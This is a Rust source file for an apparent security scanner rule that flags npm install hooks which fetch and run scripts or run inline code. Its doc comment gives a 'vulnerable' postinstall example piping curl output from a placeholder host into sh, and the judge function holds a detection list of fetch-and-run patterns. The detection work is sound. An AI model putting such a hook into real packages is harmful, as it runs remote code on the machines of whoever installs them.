use super::place;
use hub_engine::{Context, Findings, Rule, declare_rule};
use hub_model::{Confidence, Severity};

declare_rule! {
    /// ## What it finds
    /// A script that runs while the package is installed (`preinstall`, `install`, `postinstall`) and does more than build it: fetches and
    /// runs code, runs code given on its command line, or reads what is private.
    /// ## Why it matters
    /// Installing is enough to run it, before anyone looks at a tool; it is where most malicious packages act.
    /// ## How to fix it
    /// Do the work when the package is built, and ship the result; install with scripts switched off.
    /// ```package.json vulnerable
    /// {"name": "example", "version": "1.0.0", "scripts": {"postinstall": "curl -s https://files.example.net/setup.sh | sh"}}
    /// ```
    /// ```package.json safe
    /// {"name": "example", "version": "1.0.0", "scripts": {"build": "tsc", "prepare": "npm run build", "postinstall": "node-gyp rebuild"}}
    /// ```
    pub struct InstallScript {
        id: "install-script",
        title: "Code runs when the package is installed",
        category: SupplyChain,
        severity: Medium,
        classes: &["D04"],
        references: &["https://docs.npmjs.com/cli/using-npm/scripts", "https://cwe.mitre.org/data/definitions/506.html"],
    }
}

impl Rule for InstallScript {
    fn check(&self, cx: &Context<'_>, out: &mut Findings) {
        let Some(snapshot) = cx.snapshot else { return };
        for file in snapshot.files.iter().filter(|f| f.path.file_name() == "package.json") {
            let apart = file
                .path
                .as_str()
                .split('/')
                .any(|p| matches!(p, "test" | "tests" | "examples" | "fixtures" | "node_modules"));
            let Ok(json) = serde_json::from_str::<serde_json::Value>(&file.text) else {
                continue;
            };
            if apart {
                continue;
            }
            for hook in ["preinstall", "install", "postinstall"] {
                let Some(command) = json.get("scripts").and_then(|s| s.get(hook)).and_then(serde_json::Value::as_str) else {
                    continue;
                };
                let Some((what, severity)) = judge(command) else { continue };
                let line = file
                    .text
                    .lines()
                    .position(|l| l.contains(&format!("\"{hook}\"")))
                    .map_or(1, |i| u32::try_from(i + 1).unwrap_or(1));
                out.report(Self::META)
                    .at(place(&file.path, line))
                    .evidence(format!("\"{hook}\": \"{command}\""))
                    .title(format!("`{hook}` {what}"))
                    .severity(severity)
                    .confidence(Confidence::High)
                    .key(hook)
                    .add();
            }
        }
    }
}

/// What an install script does beyond building, and how bad that is.
fn judge(command: &str) -> Option<(&'static str, Severity)> {
    let c = command.to_ascii_lowercase();
    let fetches = ["curl ", "wget ", "invoke-webrequest", "iwr ", "irm "]
        .iter()
        .any(|w| c.contains(w));
    if fetches
        && ["| sh", "|sh", "| bash", "|bash", "| node", "| python", "iex", "$(curl", "chmod +x"]
            .iter()
            .any(|w| c.contains(w))
    {
        return Some(("downloads and runs a script", Severity::Medium));
    }
    if c.contains("node -e")
        || c.contains("node --eval")
        || c.contains("python -c")
        || c.contains("powershell -e")
        || c.contains("base64 -d")
    {
        return Some(("runs code given on its command line", Severity::Medium));
    }
    if fetches {
        return Some(("downloads something", Severity::Low));
    }
    None
}
